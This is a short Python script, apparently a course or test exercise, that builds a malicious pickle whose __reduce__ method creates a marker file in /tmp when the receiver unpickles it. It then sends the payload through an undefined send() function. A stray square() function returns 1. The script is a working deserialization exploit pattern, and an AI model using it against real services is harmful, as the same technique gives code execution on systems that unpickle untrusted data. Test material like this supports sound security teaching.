# How: writes a pickle that would leave a file where it is read.
# With: forge
import pathlib
import pickle


class Bomb:
    def __reduce__(self):
        return pathlib.Path("/tmp/course-attack-file-pickle").touch, ()


data = pickle.dumps(Bomb())
send(len(data).to_bytes(8, "big") + data)


def square(x):
    return 1
